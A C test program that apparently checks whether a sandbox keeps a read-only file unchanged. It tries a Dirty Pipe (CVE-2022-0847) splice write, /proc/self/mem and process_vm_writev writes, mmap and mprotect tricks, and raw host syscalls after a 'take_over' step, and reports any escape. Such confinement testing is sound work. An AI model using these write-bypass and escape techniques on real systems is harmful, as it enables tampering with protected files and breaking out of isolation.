/* read_only FILE: writes to a file that may only be read, by every way around write(2). FILE must not change on the host. */
#include "takeover.h"
#include <sys/uio.h>

static char evil[4096];

static void through_a_pipe(int fd) {
    /* CVE-2022-0847: a pipe whose buffers were merged with the page cache. */
    int pipe_fds[2];
    loff_t at = 0;
    if (pipe(pipe_fds) != 0) exit(2);
    for (int i = 0; i < 16; i++) if (write(pipe_fds[1], evil, sizeof evil) < 0) exit(2);
    for (int i = 0; i < 16; i++) if (read(pipe_fds[0], evil + 1, sizeof evil - 1) < 0) exit(2);
    for (int i = 0; i < 2; i++) {
        if (splice(fd, &at, pipe_fds[1], NULL, 1, 0) < 0) say("splice: %s\n", strerror(errno));
        if (write(pipe_fds[1], evil, 64) < 0) exit(2);
        at = 0;
    }
    if (splice(pipe_fds[0], NULL, fd, &at, 64, 0) > 0) escaped("splice into the file");
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    memset(evil, 'E', sizeof evil);
    int fd = open(argv[1], O_RDONLY);
    if (fd < 0) return 2;
    char before[64] = "", after[64] = "";
    if (pread(fd, before, sizeof before - 1, 0) < 0) return 2;
    through_a_pipe(fd);
    if (pwrite(fd, evil, 1, 0) > 0) escaped("pwrite");
    if (ftruncate(fd, 0) == 0) escaped("ftruncate");
    if (fallocate(fd, 3, 0, 4096) == 0) escaped("fallocate");
    char *shared = mmap(NULL, PAGE, PROT_READ, MAP_SHARED, fd, 0), *own = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE, fd, 0);
    if (mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) != MAP_FAILED) escaped("a shared mapping that can be written");
    if (mprotect(shared, PAGE, PROT_READ | PROT_WRITE) == 0) escaped("mprotect of a shared mapping");
    memcpy(own, evil, 64); /* to its copy */
    int memory = open("/proc/self/mem", O_RDWR);
    if (pwrite(memory, evil, 64, (off_t)shared) > 0) say("/proc/self/mem took it\n");
    struct iovec ours = { evil, 64 }, theirs = { shared, 64 };
    if (process_vm_writev(getpid(), &ours, 1, &theirs, 1, 0) > 0) escaped("process_vm_writev");
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int again = open(path, O_RDWR);
    if (again >= 0) escaped("opened again for writing");
    /* And now of the host itself. */
    take_over();
    for (long host_fd = 3; host_fd < 256; host_fd++) {
        struct stat what;
        if (HOST(SYS_newfstatat, host_fd, "", &what, AT_EMPTY_PATH) != 0 || !S_ISREG(what.st_mode)) continue;
        char seen[64] = "";
        if (HOST(SYS_pread64, host_fd, seen, sizeof seen - 1, 0) <= 0 || strcmp(seen, before) != 0) continue;
        say("found the host's descriptor\n");
        /* write(2) to it would be stopped by the filter, unless its number is that of a descriptor of the start. */
        long at = HOST(SYS_mmap, base + 62 * GIB, PAGE, PROT_READ | PROT_WRITE, MAP_FIXED | MAP_SHARED, host_fd, 0);
        if (at > 0) { memcpy((void *)at, evil, 64); escaped("a shared mapping of the host"); }
        at = HOST(SYS_mmap, base + 62 * GIB, PAGE, PROT_READ, MAP_FIXED | MAP_SHARED, host_fd, 0);
        if (at > 0 && HOST(SYS_mprotect, at, PAGE, PROT_READ | PROT_WRITE) == 0) escaped("mprotect of the host");
        if (at > 0) HOST(SYS_madvise, at, PAGE, MADV_REMOVE);
    }
    if (pread(fd, after, sizeof after - 1, 0) > 0 && strcmp(before, after) != 0) escaped("the file reads differently");
    held();
    return 0;
}
